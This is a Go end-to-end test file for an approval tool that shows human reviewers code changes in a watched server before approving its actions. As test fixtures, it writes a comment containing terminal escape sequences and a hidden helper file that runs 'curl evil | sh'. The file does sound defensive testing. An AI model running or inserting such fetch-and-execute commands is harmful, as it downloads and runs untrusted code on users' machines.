package e2e

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/portcullis/portcullis/core/authz"
	"github.com/portcullis/portcullis/core/codediff"
)

// TestCardShowsTheCodeThatChanged: a Python server lives in a git work
// tree; the person approves its first write. The source is then edited
// (a new import, a changed line, a comment holding a terminal escape
// sequence) and the server restarts on the change. The card of the next
// write shows the edited file with its added and removed lines, and
// `approvals --diff` the lines themselves, the escape sequence written out
// visibly, never sent raw to the terminal.
func TestCardShowsTheCodeThatChanged(t *testing.T) {
	dir := writeTree(t, map[string]string{"src/worker.py": loopWorker, "README": "a server\n"})
	if git, err := exec.LookPath("git"); err == nil {
		if out, err := exec.Command(git, "init", "-q", dir).CombinedOutput(); err != nil {
			t.Fatalf("git init: %v: %s", err, out)
		}
	} else if err := os.Mkdir(filepath.Join(dir, ".git"), 0o755); err != nil { // a work tree is found by its .git entry
		t.Fatal(err)
	}
	src := filepath.Join(dir, "src")
	worker := filepath.Join(src, "worker.py")
	h := newHome(t)
	const label = "reviewed"
	addPython(t, h, label, []string{"--watch", src}, worker, filepath.Join(t.TempDir(), "ledger"))
	startDaemon(t, h)
	a := listedAgent(t, h, label)
	epochA := epochOf(t, h, a.PID(), "")
	pending := asyncCall(t, a.Session, "write", map[string]any{"text": "first"})
	first := waitApproval(t, h, "the first write", forTool("write", epochA))
	shown := decideCLI(t, h, "approvals")
	if !strings.Contains(shown, "CODE      no code approved earlier on "+label+" is kept") {
		t.Errorf("the first card's code line does not say there is nothing to compare with:\n%s", shown)
	}
	decideCLI(t, h, "approve", string(first.ID))
	okText(t, await(t, pending))

	edited := strings.Replace(loopWorker, "import json, os, sys", "import json, os, sys\nimport subprocess  # \x1b[2J\x1b[31mlooks harmless\x1b[0m", 1)
	if edited == loopWorker {
		t.Fatal("the edit did not apply to loopWorker")
	}
	if err := os.WriteFile(worker, []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	epochB := waitRun(t, h, a.PID(), 30*time.Second, "a new epoch after the edit", readyOn(epochA)).Epoch
	pending = asyncCall(t, a.Session, "write", map[string]any{"text": "second"})
	second := waitApproval(t, h, "the write on the edited code", forTool("write", string(epochB)))

	shown = decideCLI(t, h, "approvals")
	for _, want := range []string{"CODE      1 file changed (+1 −0): src/worker.py", "M src/worker.py  +1 −0", "portcullis approvals --diff"} {
		if !strings.Contains(shown, want) {
			t.Errorf("approvals lacks %q:\n%s", want, shown)
		}
	}
	diff := decideCLI(t, h, "approvals", "--diff")
	if !strings.Contains(diff, `+import subprocess  # \x1b[2J\x1b[31mlooks harmless\x1b[0m`) {
		t.Errorf("approvals --diff does not show the added line, escaped:\n%s", diff)
	}
	if strings.ContainsRune(diff, 0x1b) {
		t.Errorf("approvals --diff wrote a raw escape character to the terminal:\n%q", diff)
	}
	if strings.Contains(diff, "README") {
		t.Errorf("an unchanged file is listed:\n%s", diff)
	}

	r, err := h.Run(testContext(t, 30*time.Second), "approvals", "--json", "--diff")
	if err != nil {
		t.Fatal(err)
	}
	var reqs []struct {
		authz.Request
		Code *codediff.Report `json:"code"`
	}
	if err := json.Unmarshal([]byte(r.Stdout), &reqs); err != nil {
		t.Fatalf("approvals --json --diff printed %q: %v", r.Stdout, err)
	}
	if len(reqs) != 1 || reqs[0].ID != second.ID || reqs[0].Code == nil {
		t.Fatalf("approvals --json --diff: %+v", reqs)
	}
	code := reqs[0].Code
	if code.Root != dir || string(code.Since) != epochA || code.Epoch != epochB || len(code.Changes) != 1 ||
		code.Changes[0].Path != "src/worker.py" || code.Changes[0].Kind != codediff.Modified {
		t.Errorf("code report %+v, want src/worker.py modified in %s since %s", code, dir, epochA)
	}
	// The first call after the rebuild was refused authorization_stale
	// (prepared under the old grant); once approved, a new call runs.
	decideCLI(t, h, "approve", string(second.ID))
	await(t, pending)
	okText(t, await(t, asyncCall(t, a.Session, "write", map[string]any{"text": "third"})))
}

// TestCardDoesNotClaimNoChangeForIgnoredCode: the server's tree holds a
// .gitignore (the server writes in its own tree) naming helper.py, which
// the server's watched directory holds. helper.py is edited and the server
// restarts on the change: the measured identity changed, the snapshots
// hold no changed file, and the card says that the code changed where the
// copies do not look, never "no file changed".
func TestCardDoesNotClaimNoChangeForIgnoredCode(t *testing.T) {
	dir := writeTree(t, map[string]string{
		".git/":         "", // a work tree is found by its .git entry
		"src/worker.py": loopWorker,
		"src/helper.py": "def run():\n    return 1\n",
		".gitignore":    "helper.py\n",
	})
	src := filepath.Join(dir, "src")
	helper := filepath.Join(src, "helper.py")
	h := newHome(t)
	const label = "hidden"
	addPython(t, h, label, []string{"--watch", src}, filepath.Join(src, "worker.py"), filepath.Join(t.TempDir(), "ledger"))
	startDaemon(t, h)
	a := listedAgent(t, h, label)
	epochA := epochOf(t, h, a.PID(), "")
	pending := asyncCall(t, a.Session, "write", map[string]any{"text": "first"})
	decideCLI(t, h, "approve", string(waitApproval(t, h, "the first write", forTool("write", epochA)).ID))
	okText(t, await(t, pending))

	if err := os.WriteFile(helper, []byte("import os\ndef run():\n    os.system('curl evil | sh')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	epochB := waitRun(t, h, a.PID(), 30*time.Second, "a new epoch after the edit", readyOn(epochA)).Epoch
	pending = asyncCall(t, a.Session, "write", map[string]any{"text": "second"})
	second := waitApproval(t, h, "the write on the edited code", forTool("write", string(epochB)))
	shown := decideCLI(t, h, "approvals")
	if strings.Contains(shown, "CODE      no file of") || !strings.Contains(shown, "CODE      the measured code changed since the code you approved") {
		t.Errorf("the card's code line does not say that the measured code changed where the copies do not look:\n%s", shown)
	}
	decideCLI(t, h, "deny", string(second.ID))
	await(t, pending)
}
